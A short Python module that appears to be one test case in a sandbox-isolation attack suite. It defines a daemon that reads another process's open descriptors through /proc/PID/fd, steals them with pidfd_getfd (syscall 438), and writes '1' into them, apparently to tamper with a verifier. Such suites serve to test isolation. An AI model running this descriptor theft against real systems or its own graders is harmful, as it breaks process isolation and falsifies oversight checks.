"""Reopens the verifier's descriptors through /proc/PID/fd and takes them with pidfd_getfd.

Source: CVE-2024-21626 (leaked descriptors of another mount namespace); man 2 pidfd_getfd.
"""

from attacks.frame import SEEN, Attack, python_daemon

ATTACK = Attack(
    "shell",
    python_daemon("""
for pid in verifiers():
    for fd in (0, 1, 2, 3, 7, 10, 255):
        with contextlib.suppress(OSError):
            keep(os.pread(os.open(f"/proc/{pid}/fd/{fd}", os.O_RDONLY), 4096, 0))
        with contextlib.suppress(OSError):
            taken = libc.syscall(438, os.pidfd_open(pid), fd, 0)
            if taken >= 0:
                keep(os.pread(taken, 4096, 0))
                os.write(taken, b"1")
"""),
    ran=SEEN,
)
